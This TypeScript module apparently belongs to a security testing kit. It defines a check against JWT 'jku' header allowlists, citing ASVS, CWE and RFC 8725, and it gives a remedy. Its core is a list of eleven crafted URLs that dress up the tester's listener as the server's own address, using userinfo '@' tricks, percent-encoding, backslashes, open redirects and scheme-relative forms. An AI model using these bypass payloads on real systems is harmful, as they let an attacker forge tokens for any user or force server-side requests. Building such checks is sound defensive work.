import { keyUrlAttack } from '../../kit/key-url-attack.ts'

export default keyUrlAttack({
  id: 'token/key-jku-allowlist-bypass',
  rows: ['token.key-jku.allowlist-bypass'],
  title: 'Addresses in the jku header that look like the server’s own and lead to a listener of ours',
  requirement: 'ASVS V13.2.4: outgoing requests go to an allowlist; addresses are compared parsed, not as text',
  impact: 'The allowlist is passed: anyone signs tokens for any user, or makes the server call any address.',
  remedy: 'Ignore jku; where it must be, compare new URL(jku).origin and the path with the one that is allowed.',
  severity: 'high',
  cwe: ['CWE-918', 'CWE-347'],
  references: ['ASVS V13.2.4', 'ASVS V15.3.2', 'RFC 8725 section 3.10'],
  provenBy: 'jku-prefix',
  plainer: (url) => ({
    attack: 'token/key-jku-external',
    name: 'jku to a listener of ours',
    header: { jku: `${url}/jku` },
  }),
  places(url, { target }) {
    const good = new URL(target.url).origin
    const ours = url.replace(/^\w+:\/\//, '')
    const path = '.well-known/jwks.json'
    const addresses: [name: string, jku: string][] = [
      ['as user name', `${good}@${ours}/${path}`],
      ['as user name, a path before', `${good}/@${ours}/${path}`],
      ['as user name, percent-encoded', `${good}%40${ours}/${path}`],
      ['before a backslash', `${good}\\@${ours}/${path}`],
      ['behind a hash', `${url}/${path}#${good}/${path}`],
      ['in the query', `${url}/${path}?${good}/${path}`],
      ['in the path', `${url}/${good.replace(/^\w+:\/\//, '')}/${path}`],
      ['in the path, whole', `${url}/${good}/../${path}`],
      ['behind a blank', ` ${url}/${path}`],
      ['with an open redirect', `${good}/redirect?url=${encodeURIComponent(`${url}/${path}`)}`],
      ['without a scheme', `//${ours}/${path}`],
    ]
    return addresses.map(([name, jku]) => ({ name: `jku with the server's own address ${name}`, header: { jku } }))
  },
})
